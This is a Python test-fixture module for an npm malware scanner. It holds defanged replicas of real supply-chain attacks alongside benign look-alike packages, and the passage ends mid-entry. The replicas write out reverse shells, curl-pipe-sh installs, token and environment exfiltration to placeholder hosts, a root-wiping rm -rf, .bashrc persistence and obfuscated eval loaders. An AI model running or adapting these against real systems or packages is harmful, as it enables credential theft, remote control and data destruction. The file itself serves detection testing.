"""Defanged replicas of real npm attacks and benign look-alikes, as source text.

Hosts are under `.invalid` or example.com, tokens are placeholders, payloads are inert strings: nothing
here can run or reach anyone. Each replica keeps the *shape* the original had (where the code sits, what it
reads, how it hides, where it sends), which is what the rules look at.
"""

from __future__ import annotations

from tests.incidents.replica import ELF, PE, PNG, Replica, b64, hexed, nested_eval

__all__ = ["BENIGN", "ELF", "INCIDENTS", "PE", "PNG", "Replica", "b64", "hexed", "nested_eval"]

INCIDENTS: list[Replica] = [
    Replica(
        "event-stream-flatmap-stream",
        {
            "index.js": "module.exports = require('./lib/flat');\n",
            "lib/flat.js": (
                "var Stream = require('stream').Stream;\n"
                "module.exports = function (mapper) { return new Stream(); };\n"
                '!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}'
                f'var n=r(e("{hexed("./test/data")}")),o=t[e(n[3])][e(n[4])];if(!o)return;'
                "var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));"
                'var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}catch(r){}}();\n'
            ),
            "test/data.js": (
                "module.exports = ['00aa', 'inert', '"
                + hexed("crypto")
                + "', '"
                + hexed("env")
                + "', '"
                + hexed("npm_package_description")
                + "', '"
                + hexed("aes256")
                + "', '"
                + hexed("createDecipher")
                + "', '"
                + hexed("_compile")
                + "', '"
                + hexed("hex")
                + "', '"
                + hexed("utf8")
                + "'];\n"
            ),
        },
        "block",
        frozenset({"eval-decoded-payload"}),
        name="flatmap-stream",
        note="the real payload took its AES key from npm_package_description; names are hex-encoded",
    ),
    Replica(
        "flatmap-stream-plain-decipher",
        {
            "index.js": (
                "const crypto = require('crypto');\n"
                "const key = process.env.npm_package_description;\n"
                "const decipher = crypto.createDecipher('aes256', key);\n"
                "let decoded = decipher.update(require('./payload'), 'hex', 'utf8');\n"
                "decoded += decipher.final('utf8');\n"
                "const m = new module.constructor();\nm.paths = module.paths;\nm._compile(decoded, '');\n"
            ),
            "payload.js": "module.exports = '00ff00ff';\n",
        },
        "block",
        frozenset({"eval-decoded-payload", "package-keyed-payload"}),
    ),
    Replica(
        "ua-parser-js-preinstall",
        {
            "preinstall.js": (
                "const { exec } = require('child_process');\nconst os = require('os');\n"
                "if (os.platform() === 'win32') { exec('preinstall.bat'); }\n"
                "else if (os.platform() === 'linux') { exec('bash preinstall.sh'); }\n"
            ),
            "preinstall.sh": (
                "#!/bin/bash\ncurl -s http://203.0.113.7/download/jsextension -o jsextension\n"
                "chmod +x jsextension\n"
                "./jsextension -k --tls --rig-id q -o pool.minexmr.com:443 -u 4Adefanged --cpu-max-threads-hint=50 "
                "--donate-level=1 --background &>/dev/null &\n"
            ),
            "preinstall.bat": (
                "@echo off\ncurl http://203.0.113.7/download/jsextension.exe -o jsextension.exe\n"
                "certutil.exe -urlcache -f http://203.0.113.7/sdd.dll sdd.dll\njsextension.exe\n"
                "regsvr32.exe -s sdd.dll\n"
            ),
        },
        "block",
        frozenset({"shell-fetch-and-run", "cryptominer", "shell-lolbin"}),
        manifest={"scripts": {"preinstall": "start /B node preinstall.js & node preinstall.js"}},
        name="ua-parser-js",
    ),
    Replica(
        "coa-rc-obfuscated-compile",
        {
            "compile.js": (
                "const _0x1a2b=['\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73','exec'];"
                + "".join(f"var _0x{i:04x}=_0x1a2b[{i % 2}];" for i in range(30))
                + "(function(_0x5c2f,_0x3b1e){const _0x4d3a=function(_0x2a11){while(--_0x2a11){"
                "_0x5c2f['push'](_0x5c2f['shift']());}};_0x4d3a(++_0x3b1e);}(_0x1a2b,0x1f4));"
                "require('child_process').exec('cmd /c compile.bat');\n"
            ),
            "compile.bat": (
                "@echo off\ncurl https://paste.example.com/sdd.dll -o compile.dll\n"
                "if not exist compile.dll ( wget https://paste.example.com/sdd.dll -O compile.dll )\n"
                "regsvr32.exe -s compile.dll\n"
            ),
        },
        "block",
        frozenset({"shell-fetch-and-run", "install-obfuscated"}),
        manifest={"scripts": {"preinstall": "start /B node compile.js & node compile.js"}},
        name="coa",
    ),
    Replica(
        "node-ipc-geo-wiper",
        {
            "dao/ssl-geospec.js": (
                "import u from 'path';\nimport a from 'fs';\nimport o from 'https';\n"
                "setTimeout(function () {\n"
                "  const t = Math.round(Math.random() * 4);\n  if (t > 1) { return; }\n"
                f"  const n = Buffer.from('{b64('https://api.ipgeolocation.io/ipgeo?apiKey=ae511e1627824a968aaaa758a5309154')}', 'base64');\n"
                "  o.get(n.toString('utf8'), function (t) {\n    t.on('data', function (t) {\n"
                "      const n = Buffer.from('Li8=', 'base64');\n      const c = Buffer.from('Li4v', 'base64');\n"
                "      const f = Buffer.from('Lw==', 'base64');\n"
                "      const r = function (t) { a.readdirSync(t).forEach(function (n) {\n"
                "          const s = u.join(t, n);\n"
                "          try { a.writeFileSync(s, '\\u2764\\ufe0f'); } catch (e) {}\n"
                "        }); };\n"
                "      const e = JSON.parse(t.toString('utf8'));\n      const s = e.country_name;\n"
                "      if (s === 'russia' || s === 'belarus') { r(n.toString()); r(c.toString()); r(f.toString()); }\n"
                "    });\n  });\n}, Math.ceil(Math.random() * 1000));\n"
            ),
            "node-ipc.js": "import './dao/ssl-geospec.js';\nexport default {};\n",
        },
        "block",
        frozenset({"geo-conditioned-destruction"}),
        manifest={"type": "module", "main": "node-ipc.js"},
        name="node-ipc",
        note="the geolocation URL is base64 in the original too; airlock decodes such literals before matching",
    ),
    Replica(
        "crossenv-typosquat-env-theft",
        {
            "package-setup.js": (
                "const http = require('http');\nconst querystring = require('querystring');\n"
                "const env = JSON.stringify(process.env);\n"
                "const data = Buffer.from(env).toString('base64');\n"
                "const postData = querystring.stringify({ data });\n"
                "const req = http.request({ host: 'npm.hacktask.invalid', port: 80, path: '/log/', method: 'POST' });\n"
                "req.write(postData);\nreq.end();\n"
            ),
            "index.js": "module.exports = require('cross-env');\n",
        },
        "block",
        frozenset({"credential-exfiltration", "typosquat-name"}),
        manifest={
            "scripts": {"postinstall": "node package-setup.js"},
            "dependencies": {"cross-env": "^5.0.1"},
        },
        name="crossenv",
    ),
    Replica(
        "eslint-scope-token-theft",
        {
            "lib/build.js": (
                "try {\n  var https = require('https');\n"
                "  https.get({ hostname: 'pastebin.com', path: '/raw/XLeVP82h', headers: {} }, (r) => {\n"
                "    r.setEncoding('utf8');\n    r.on('data', (c) => { eval(c); });\n"
                "    r.on('error', () => {});\n  }).on('error', () => {});\n} catch (e) {}\n"
            ),
        },
        "block",
        frozenset({"remote-command-execution", "exfiltration-host", "install-dynamic-code"}),
        manifest={"scripts": {"postinstall": "node ./lib/build.js"}},
        name="eslint-scope",
    ),
    Replica(
        "eslint-scope-second-stage",
        {
            "lib/stage.js": (
                "const fs = require('fs'); const path = require('path'); const os = require('os');\n"
                "const https = require('https');\n"
                "const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
                "const token = /_authToken=(.*)/.exec(npmrc);\n"
                "https.get({ hostname: 'sstatic1.histats.invalid', path: '/0.gif', headers: { Referer: token } });\n"
            ),
        },
        "block",
        frozenset({"credential-exfiltration"}),
        manifest={"scripts": {"postinstall": "node lib/stage.js"}},
    ),
    Replica(
        "discord-token-stealer",
        {
            "index.js": (
                "const fs = require('fs'); const path = require('path'); const https = require('https');\n"
                "const roaming = process.env.APPDATA;\n"
                "const paths = [path.join(roaming, 'discord', 'Local Storage', 'leveldb'),\n"
                "  path.join(roaming, 'discordcanary', 'Local Storage/leveldb')];\n"
                "const tokens = [];\n"
                "for (const p of paths) { for (const f of fs.readdirSync(p)) {\n"
                "  const text = fs.readFileSync(path.join(p, f), 'utf8');\n"
                "  for (const m of text.matchAll(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}|mfa\\.[\\w-]{84}/g)) tokens.push(m[0]);\n"
                "} }\n"
                "const req = https.request('https://discord.com.invalid/api/webhooks/000000/defanged', { method: 'POST' });\n"
                "req.end(JSON.stringify({ content: tokens.join('\\n') }));\n"
            ),
        },
        "block",
        frozenset({"credential-exfiltration"}),
        name="discord-selfbot-helper",
    ),
    Replica(
        "reverse-shell-postinstall",
        {"index.js": "module.exports = () => 1;\n"},
        "block",
        frozenset({"shell-reverse-shell"}),
        manifest={"scripts": {"postinstall": "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1"}},
    ),
    Replica(
        "reverse-shell-js",
        {
            "index.js": (
                "const net = require('net'); const { spawn } = require('child_process');\n"
                "const sh = spawn('/bin/sh', []);\n"
                "const client = new net.Socket();\n"
                "client.connect(4444, '198.51.100.4', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });\n"
            )
        },
        "block",
        frozenset({"js-reverse-shell"}),
    ),
    Replica(
        "dependency-confusion-dns-beacon",
        {"index.js": "module.exports = {};\n"},
        "block",
        frozenset({"shell-dns-beacon"}),
        manifest={"scripts": {"preinstall": "nslookup $(whoami).$(hostname).x1y2.oastify.com.invalid"}},
        name="acme-internal-utils",
    ),
    Replica(
        "dependency-confusion-http-probe",
        {
            "index.js": (
                "const os = require('os'); const https = require('https');\n"
                "const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname });\n"
                "const req = https.request({ hostname: 'abc123.oastify.com.invalid', method: 'POST', path: '/' });\n"
                "req.write(data); req.end();\n"
            )
        },
        "block",
        frozenset({"install-identity-beacon", "exfiltration-host"}),
        manifest={"scripts": {"preinstall": "node index.js"}},
        name="acme-internal-config",
    ),
    Replica(
        "dependency-confusion-probe-on-require",
        {
            "index.js": (
                "const os = require('os'); const https = require('https');\n"
                "const info = { h: os.hostname(), u: os.userInfo().username, n: Object.keys(os.networkInterfaces()) };\n"
                "https.get('https://k3j2.metrics-cdn.example.net/p?d=' + Buffer.from(JSON.stringify(info)).toString('hex'));\n"
                "module.exports = {};\n"
            )
        },
        "review",
        frozenset({"load-identity-beacon"}),
        manifest={"main": "index.js"},
        name="acme-internal-utils",
        note="no install script: the probe runs on require; critical where the host is a known OAST service",
    ),
    Replica(
        "request-hook-copies-auth-headers",
        {
            "index.js": (
                "const https = require('https');\nconst orig = https.request;\n"
                "https.request = function (opts, cb) {\n"
                "  try { orig.call(https, { host: 'h.example.invalid', method: 'POST' }).end(JSON.stringify(opts.headers)); } catch (e) {}\n"
                "  return orig.apply(this, arguments);\n};\nmodule.exports = {};\n"
            )
        },
        "block",
        frozenset({"credential-exfiltration"}),
        manifest={"main": "index.js"},
        note="on require, every request the application makes has its headers (tokens, cookies) copied out",
    ),
    Replica(
        "page-secrets-beacon-on-load",
        {
            "index.js": (
                "const payload = { c: document.cookie, t: localStorage.getItem('auth_token') };\n"
                "navigator.sendBeacon('https://cdn-metrics.example.net/b', JSON.stringify(payload));\n"
                "export default function Button() { return null; }\n"
            )
        },
        "review",
        frozenset({"browser-data-exfiltration"}),
        manifest={"main": "index.js", "type": "module"},
        note="a front-end component that posts the page's cookies and stored token on import",
    ),
    Replica(
        "cli-token-harvest-on-require",
        {
            "index.js": (
                "const { execSync } = require('child_process');\n"
                "let t = '';\ntry { t = execSync('gh auth token', { stdio: ['ignore', 'pipe', 'ignore'] }).toString(); } catch (e) {}\n"
                "if (t) fetch('https://gh-sync.example.net/t', { method: 'POST', body: t });\nmodule.exports = {};\n"
            )
        },
        "block",
        frozenset({"credential-exfiltration"}),
        manifest={"main": "index.js"},
        note="the token asked of the GitHub CLI (Shai-Hulud, s1ngularity), sent to a host that is not GitHub",
    ),
    Replica(
        "shai-hulud-propagation",
        {
            "bundle.js": (
                "const { execSync } = require('child_process'); const fs = require('fs');\n"
                "const token = process.env.NPM_TOKEN || fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
                "async function run() {\n"
                "  const me = await fetch('https://registry.npmjs.invalid/-/whoami', { headers: { authorization: 'Bearer ' + token } });\n"
                "  const list = await fetch('https://registry.npmjs.invalid/-/v1/search?text=maintainer:' + (await me.json()).username);\n"
                "  for (const pkg of (await list.json()).objects) {\n"
                "    execSync('npm version patch --no-git-tag-version', { cwd: pkg.dir });\n"
                "    execSync('npm publish', { cwd: pkg.dir });\n"
                "  }\n"
                "  fs.mkdirSync('.github/workflows', { recursive: true });\n"
                "  fs.writeFileSync('.github/workflows/shai-hulud-workflow.yml', 'on: push\\n' + process.env.GITHUB_TOKEN);\n"
                "}\nrun();\n"
            )
        },
        "block",
        frozenset({"self-propagation", "ci-workflow-write"}),
        manifest={"scripts": {"postinstall": "node bundle.js"}},
    ),
    Replica(
        "bundled-binary-at-install",
        {"index.js": "module.exports = {};\n", "lib/helper": ELF},
        "block",
        frozenset({"install-runs-bundled-binary"}),
        manifest={"scripts": {"postinstall": "chmod +x lib/helper && ./lib/helper --quiet"}},
    ),
    Replica(
        "obfuscated-eval",
        {
            "index.js": (
                "var _0xabc1=['"
                + b64("require('child_process').exec('id')")
                + "'];"
                + "".join(f"var _0x{0xA000 + i:04x}=_0xabc1[0];" for i in range(25))
                + "eval(Buffer.from(_0xabc1[0], 'base64').toString());\n"
            )
        },
        "block",
        frozenset({"obfuscated-code"}),
        note="the eval'd string folds to a constant, so its capability (child_process.exec) is reported too",
    ),
    Replica(
        "obfuscated-eval-runtime-key",
        {
            "index.js": (
                "const k = process.argv.length;\n"
                "const blob = '" + b64("console.log('inert')") + "';\n"
                "const code = Buffer.from(blob.split('').reverse().slice(k).join(''), 'base64').toString();\n"
                "new Function(code)();\n"
            )
        },
        "block",
        frozenset({"eval-decoded-payload"}),
    ),
    Replica(
        "whitespace-hidden-payload",
        {
            "index.js": (
                "module.exports = function add(a, b) { return a + b; };"
                + " " * 400
                + "eval(atob(process.env.X || 'Y29uc29sZS5sb2coMSk='));\n"
            )
        },
        "block",
        frozenset({"hidden-code", "eval-decoded-payload"}),
    ),
    Replica(
        "steganography-image-payload",
        {
            "index.js": (
                "const fs = require('fs'); const path = require('path');\n"
                "const img = fs.readFileSync(path.join(__dirname, 'logo.png'));\n"
                "let code = '';\nfor (let i = 64; i < img.length; i += 4) code += String.fromCharCode(img[i]);\n"
                "new Function(code)();\n"
            ),
            "logo.png": PNG,
        },
        "block",
        frozenset({"steganography"}),
    ),
    Replica(
        "binding-gyp-command-expansion",
        {
            "binding.gyp": (
                "{ 'targets': [ { 'target_name': 'addon', 'sources': ['addon.cc'],\n"
                "  'include_dirs': [ \"<!(curl -s https://paste.example.com/raw/x | sh)\" ] } ] }\n"
            ),
            "addon.cc": "// inert\n",
        },
        "block",
        frozenset({"shell-fetch-and-run"}),
    ),
    Replica(
        "colors-sabotage",
        {
            "lib/index.js": (
                "var colors = {};\nmodule.exports = colors;\n"
                "for (let i = 666; i < Infinity; i++) {\n"
                "  if (i % 333) { console.log('testing'.zalgo.rainbow); }\n"
                "  console.log('LIBERTY LIBERTY LIBERTY'.zalgo);\n}\n"
            )
        },
        "review",
        frozenset({"module-level-endless-loop"}),
        manifest={"main": "lib/index.js"},  # colors 1.4.1's package.json: "main": "lib/index.js"
        name="colors",
        note="no benign reading is certain enough to block (a loop is not malware), so a human looks",
    ),
    Replica(
        "miner-in-library-spawned",
        {
            "index.js": (
                "const { spawn } = require('child_process');\n"
                "spawn(__dirname + '/bin/worker', ['-o', 'stratum+tcp://pool.supportxmr.invalid:3333', '-u', 'wallet'],"
                " { detached: true, stdio: 'ignore' }).unref();\n"
            )
        },
        "block",
        frozenset({"cryptominer"}),
    ),
    Replica(
        "persistence-bashrc-at-install",
        {
            "setup.js": (
                "const fs = require('fs'); const os = require('os');\n"
                "fs.appendFileSync(os.homedir() + '/.bashrc', '\\nnode ~/.cache/.svc.js &\\n');\n"
            )
        },
        "block",
        frozenset({"persistence-write", "detached-process", "combined-behaviours"}),
        manifest={"scripts": {"postinstall": "node setup.js"}},
        note="the line written is shell too: it starts a hidden background node process at every login",
    ),
    Replica(
        "profile-path-line-at-install",
        {
            "setup.js": (
                "const fs = require('fs'); const os = require('os');\n"
                "fs.appendFileSync(os.homedir() + '/.bashrc', '\\nexport PATH=\"$HOME/.acme/bin:$PATH\"\\n');\n"
            )
        },
        "review",
        frozenset({"persistence-write"}),
        manifest={"scripts": {"postinstall": "node setup.js"}},
        note="persistence alone is high (review): some dev tools add PATH lines to profiles",
    ),
    Replica(
        "env-dump-shell-exfil",
        {"index.js": "module.exports = 1;\n"},
        "block",
        frozenset({"shell-env-exfiltration"}),
        manifest={"scripts": {"preinstall": 'curl -s -X POST -d "$(env)" https://collect.example.com/e'}},
    ),
    Replica(
        "curl-pipe-sh-install",
        {"index.js": "module.exports = 1;\n"},
        "block",
        frozenset({"shell-fetch-and-run"}),
        manifest={"scripts": {"install": "curl -fsSL https://get.example.com/setup.sh | sh"}},
    ),
    Replica(
        "wiper-postinstall",
        {"index.js": "module.exports = 1;\n"},
        "block",
        frozenset({"shell-destructive"}),
        manifest={"scripts": {"postinstall": "rm -rf --no-preserve-root / || rm -rf ~/*"}},
    ),
    Replica(
        "base64-to-shell-postinstall",
        {"index.js": "module.exports = 1;\n"},
        "block",
        frozenset({"shell-encoded-command"}),
        manifest={"scripts": {"postinstall": f"echo {b64('echo inert')} | base64 -d | bash"}},
    ),
    Replica(
        "profile-persistence-shell",
        {"index.js": "module.exports = 1;\n"},
        "review",
        frozenset({"shell-persistence"}),
        manifest={"scripts": {"postinstall": "echo 'node ~/.cache/.agent.js &' >> ~/.bashrc"}},
    ),
    Replica(
        "invisible-identifier-backdoor",
        {
            "server.js": (
                "const { exec } = require('child_process');\n"
                "module.exports = (req, res) => { const { timeout, \u3164 } = req.query;\n"
                "  exec(['ping -c 1 example.com', \u3164].join(' && '), () => res.end(String(timeout))); };\n"
            )
        },
        "review",
        frozenset({"invisible-characters"}),
        note="the 2021 'invisible backdoor': a Hangul filler as a destructured name smuggles a command",
    ),
    Replica(
        "eval-layers-past-the-budget",
        {"index.js": nested_eval("require('child_process').exec('curl https://payload.invalid/x | sh');", 5)},
        "review",
        frozenset({"analysis-incomplete"}),
        note="string-literal evals nested deeper than the analysis follows: the innermost layer is never "
        "analysed, so the cut itself sends the package to a human",
    ),
    Replica(
        "disguised-executable",
        {"index.js": "module.exports = require('path').join(__dirname, 'logo.png');\n", "logo.png": PE},
        "review",
        frozenset({"disguised-executable"}),
    ),
    Replica(
        "keyword-named-spawner",
        {
            "install.js": (
                "var yield = require('child_process');\nyield.exec('curl -s http://203.0.113.7/x.sh | sh');\n"
            )
        },
        "block",
        frozenset({"shell-fetch-and-run"}),
        manifest={"scripts": {"postinstall": "node install.js"}},
        note="`yield` is an identifier in a sloppy script; tree-sitter alone reads a yield expression (issue 9)",
    ),
    Replica(
        "with-statement-spawner",
        {
            "setup.js": (
                "with (require('child_process')) {\n  exec('wget -qO- http://payload.invalid/s | bash');\n}\n"
            )
        },
        "block",
        frozenset({"unparsed-install-code", "shell-fetch-and-run"}),
        manifest={"scripts": {"preinstall": "node setup.js"}},
        note="names inside `with` resolve against its object; read lexically, the command is still seen",
    ),
]


BENIGN: list[Replica] = [
    Replica(
        "esbuild-style-platform-binary",
        {
            "install.js": (
                "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
                "const https = require('https'); const child_process = require('child_process');\n"
                "const zlib = require('zlib');\n"
                "const pkg = require(path.join(__dirname, 'package.json'));\n"
                "const platform = `@esbuild/${os.platform()}-${os.arch()}`;\n"
                "function fetch(url) { return new Promise((resolve, reject) => {\n"
                "  https.get(url, (res) => { const chunks = []; res.on('data', (c) => chunks.push(c));\n"
                "    res.on('end', () => resolve(Buffer.concat(chunks))); }).on('error', reject); }); }\n"
                "async function install() {\n"
                "  const url = `https://registry.npmjs.org/${platform}/-/${platform.split('/')[1]}-${pkg.version}.tgz`;\n"
                "  const buffer = zlib.unzipSync(await fetch(url));\n"
                "  const bin = path.join(__dirname, 'bin', 'esbuild');\n"
                "  fs.writeFileSync(bin, buffer);\n  fs.chmodSync(bin, 0o755);\n"
                "  const out = child_process.execFileSync(bin, ['--version']).toString().trim();\n"
                "  if (out !== pkg.version) throw new Error('version mismatch');\n}\ninstall();\n"
            )
        },
        "allow",
        frozenset({"install-network", "download-execute"}),
        manifest={"scripts": {"postinstall": "node install.js"}},
    ),
    Replica(
        "node-gyp-native-build",
        {
            "binding.gyp": (
                "{ 'targets': [ { 'target_name': 'addon', 'sources': ['src/addon.cc'],\n"
                "  'include_dirs': [\"<!(node -p \\\"require('node-addon-api').include\\\")\"] } ] }\n"
            ),
            "index.js": "module.exports = require('bindings')('addon');\n",
        },
        "allow",
        frozenset({"install-script"}),
    ),
    Replica(
        "husky-prepare",
        {
            "index.js": (
                "const cp = require('child_process'); const fs = require('fs'); const path = require('path');\n"
                "module.exports = (dir = '.husky') => {\n"
                "  fs.mkdirSync(path.join(dir, '_'), { recursive: true });\n"
                "  fs.writeFileSync(path.join(dir, '_', 'h'), '#!/usr/bin/env sh\\n');\n"
                "  const { error } = cp.spawnSync('git', ['config', 'core.hooksPath', `${dir}/_`]);\n"
                "  if (error) throw error;\n};\n"
            )
        },
        "allow",
        # npm never runs `prepare` for a registry tarball: listed in install_scripts, not install-time code.
        frozenset(),
        manifest={"scripts": {"prepare": "node index.js"}},
    ),
    Replica(
        "cli-spawning-git",
        {
            "bin/cli.js": (
                "#!/usr/bin/env node\nconst { execSync, spawn } = require('child_process');\n"
                "const branch = execSync('git rev-parse --abbrev-ref HEAD').toString().trim();\n"
                "spawn('git', ['log', '--oneline', branch], { stdio: 'inherit' });\n"
            )
        },
        "allow",
        frozenset(),
        manifest={"bin": {"gitlog": "bin/cli.js"}},
    ),
    Replica(
        "dotenv-reads-env",
        {
            "lib/main.js": (
                "const fs = require('fs'); const path = require('path'); const os = require('os');\n"
                "function config(options) {\n"
                "  const dotenvPath = path.resolve(process.cwd(), '.env');\n"
                "  const parsed = parse(fs.readFileSync(dotenvPath, { encoding: 'utf8' }));\n"
                "  Object.keys(parsed).forEach((key) => { if (!Object.prototype.hasOwnProperty.call(process.env, key)) process.env[key] = parsed[key]; });\n"
                "  return { parsed };\n}\n"
                "function parse(src) { const obj = {}; for (const line of src.split(os.EOL)) { const [k, v] = line.split('='); obj[k] = v; } return obj; }\n"
                "module.exports = { config, parse };\n"
            )
        },
        "allow",
        frozenset(),
    ),
    Replica(
        "minified-bundle",
        {
            "dist/lib.min.js": (
                '!function(e,t){"object"==typeof exports&&"undefined"!=typeof module?module.exports=t():'
                '"function"==typeof define&&define.amd?define(t):(e=e||self).lib=t()}(this,function(){"use strict";'
                'var e=Object.prototype.toString,t=function(t){return"[object Function]"===e.call(t)},'
                'n=function(e){var n=new Function("a","return a*2");return t(n)?n(e):e},'
                'r="data:application/wasm;base64,' + "QUJD" * 150 + '";'
                "return{double:n,isFn:t,wasm:r,decode:function(s){return atob(s)}}});\n"
            )
        },
        "allow",
        frozenset(),
    ),
    Replica(
        "http-client-library",
        {
            "lib/client.js": (
                "const http = require('http'); const https = require('https'); const { URL } = require('url');\n"
                "module.exports = function request(url, opts = {}) { const u = new URL(url);\n"
                "  const mod = u.protocol === 'https:' ? https : http;\n"
                "  return new Promise((resolve, reject) => { const req = mod.request(u, opts, (res) => {\n"
                "    let body = ''; res.on('data', (c) => (body += c)); res.on('end', () => resolve(JSON.parse(body))); });\n"
                "    req.on('error', reject); req.end(opts.body); }); };\n"
                "module.exports.proxy = process.env.HTTPS_PROXY || process.env.https_proxy;\n"
            )
        },
        "allow",
        frozenset(),
    ),
    Replica(
        "logger-reads-hostname",
        {
            "index.js": (
                "const os = require('os');\nconst hostname = os.hostname();\n"
                "module.exports = (level, msg) => process.stdout.write(JSON.stringify({ level, msg, hostname, pid: process.pid }) + '\\n');\n"
            )
        },
        "allow",
        frozenset(),
    ),
    Replica(
        "telemetry-opt-in",
        {
            "telemetry.js": (
                "const https = require('https'); const os = require('os');\n"
                "module.exports = function report(event) {\n"
                "  if (process.env.MYTOOL_TELEMETRY !== '1') return;\n"
                "  const req = https.request({ hostname: 'telemetry.mytool.example.com', method: 'POST', path: '/v1/events' });\n"
                "  req.end(JSON.stringify({ event, platform: os.platform(), arch: os.arch(), node: process.version }));\n};\n"
            )
        },
        "allow",
        frozenset(),
    ),
    Replica(
        "telemetry-hostname-when-called",
        {
            "index.js": (
                "const https = require('https'); const os = require('os');\n"
                "exports.track = function track(event) {\n"
                "  https.request({ hostname: 'events.mytool.example.com', method: 'POST' })\n"
                "    .end(JSON.stringify({ event, host: os.hostname() }));\n};\n"
            )
        },
        "allow",
        frozenset(),
        manifest={"main": "index.js"},
    ),
    Replica(
        "apm-wraps-https-request",
        {
            "index.js": (
                "const https = require('https');\nconst orig = https.request;\nconst spans = [];\n"
                "https.request = function (opts) {\n  const start = Date.now();\n  const req = orig.apply(this, arguments);\n"
                "  req.on('response', () => spans.push({ host: opts.host, ms: Date.now() - start }));\n  return req;\n};\n"
                "exports.flush = () => fetch(process.env.APM_URL, { method: 'POST', body: JSON.stringify(spans) });\n"
            )
        },
        "allow",
        frozenset(),
        manifest={"main": "index.js"},
    ),
    Replica(
        "first-party-session-client",
        {
            "index.js": (
                "export async function whoami() {\n"
                "  const token = localStorage.getItem('token');\n"
                "  const r = await fetch('/api/session', { headers: { authorization: 'Bearer ' + token } });\n"
                "  return r.json();\n}\n"
                "export function remember(t) { localStorage.setItem('token', t); document.cookie = 'seen=1'; }\n"
            )
        },
        "allow",
        frozenset(),
        manifest={"main": "index.js", "type": "module"},
    ),
    Replica(
        "core-js-postinstall-banner",
        {
            "postinstall.js": (
                "var env = process.env;\nvar ADBLOCK = is(env.ADBLOCK);\nvar COLOR = is(env.npm_config_color);\n"
                "var DISABLE_OPENCOLLECTIVE = is(env.DISABLE_OPENCOLLECTIVE);\nvar SILENT = ['silent', 'error', 'warn'].indexOf(env.npm_config_loglevel) !== -1;\n"
                "function is(it) { return !!it && it !== '0' && it !== 'false'; }\n"
                "if (!ADBLOCK && !DISABLE_OPENCOLLECTIVE && !SILENT) { console.log('\\u001B[96mThank you for using core-js!\\u001B[0m'); }\n"
            )
        },
        "allow",
        frozenset({"install-script"}),
        manifest={"scripts": {"postinstall": "node -e \"try{require('./postinstall')}catch(e){}\""}},
    ),
    Replica(
        "lodash-process-binding",
        {
            "lodash.js": (
                "var freeProcess = typeof process == 'object' && process;\n"
                "var nodeUtil = (function() { try { return freeProcess && freeProcess.binding && freeProcess.binding('util'); } catch (e) {} }());\n"
                "module.exports = nodeUtil;\n"
            )
        },
        "allow",
        frozenset({"process-binding-without-native"}),
    ),
    Replica(
        "require-from-string",
        {
            "index.js": (
                "var Module = require('module'); var path = require('path');\n"
                "module.exports = function requireFromString(code, filename) {\n"
                "  var m = new Module(filename, module.parent); m.filename = filename;\n"
                "  m.paths = Module._nodeModulePaths(path.dirname(filename));\n  m._compile(code, filename);\n  return m.exports; };\n"
            )
        },
        "allow",
        frozenset({"compiles-unresolved-code"}),
    ),
    Replica(
        "update-notifier-detached-check",
        {
            "index.js": (
                "const { spawn } = require('child_process'); const path = require('path');\n"
                "module.exports = function check(pkg) {\n"
                "  spawn(process.execPath, [path.join(__dirname, 'check.js'), JSON.stringify(pkg)], { detached: true, stdio: 'ignore' }).unref(); };\n"
            )
        },
        "allow",
        frozenset({"detached-process"}),
    ),
    Replica(
        "public-ip-lookup",
        {
            "index.js": (
                "const https = require('https');\n"
                "module.exports = () => new Promise((resolve) => https.get('https://api.ipify.org', (res) => {\n"
                "  let ip = ''; res.on('data', (c) => (ip += c)); res.on('end', () => resolve(ip.trim())); }));\n"
            )
        },
        "allow",
        frozenset({"geolocation-lookup"}),
    ),
    Replica(
        "puppeteer-browser-download",
        {
            "install.mjs": (
                "import { createWriteStream, chmodSync } from 'fs';\nimport https from 'https';\nimport { join } from 'path';\n"
                "import { execFileSync } from 'child_process';\n"
                "const url = `https://storage.googleapis.com/chrome-for-testing-public/${process.env.PUPPETEER_VERSION || '1'}/linux64/chrome-linux64.zip`;\n"
                "https.get(url, (res) => { const out = createWriteStream(join(process.cwd(), 'chrome.zip')); res.pipe(out);\n"
                "  out.on('finish', () => { execFileSync('unzip', ['-o', 'chrome.zip']); chmodSync('chrome', 0o755); }); });\n"
            )
        },
        "allow",
        frozenset({"install-network"}),
        manifest={"scripts": {"postinstall": "node install.mjs"}},
    ),
    Replica(
        "registry-auth-token-reader",
        {
            "index.js": (
                "const fs = require('fs'); const path = require('path'); const os = require('os');\n"
                "module.exports = function getAuthToken(registry) {\n"
                "  const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
                "  const match = npmrc.match(new RegExp(registry.replace(/^https?:/, '') + ':_authToken=(.*)'));\n"
                "  return match ? match[1] : process.env.NPM_TOKEN; };\n"
            )
        },
        "allow",
        frozenset({"secret-access"}),
    ),
    Replica(
        "i18n-locale-table",
        {
            "locales/fa.js": "module.exports = { hello: 'سلام\u200cدنیا', countries: ['russia', 'belarus'] };\n",
            "index.js": "module.exports = require('./locales/fa');\n",
        },
        "allow",
        frozenset(),
    ),
    Replica(
        "platform-binary-package",
        {"bin/tool": ELF, "package.json.README": "platform binary for linux-x64"},
        "allow",
        frozenset({"bundled-executable"}),
        manifest={"os": ["linux"], "cpu": ["x64"]},
        name="@tool/linux-x64",
    ),
    Replica(
        "embedded-font",
        {
            "index.js": "const FONT = '"
            + "QUJD" * 150
            + "';\nmodule.exports = () => Buffer.from(FONT, 'base64');\n"
        },
        "allow",
        frozenset({"encoded-blob"}),
    ),
    Replica(
        "release-tool-publishes",
        {
            "lib/publish.js": (
                "const { execSync } = require('child_process');\n"
                "module.exports = function publish(dir) {\n"
                "  if (!process.env.NPM_TOKEN) throw new Error('NPM_TOKEN is required');\n"
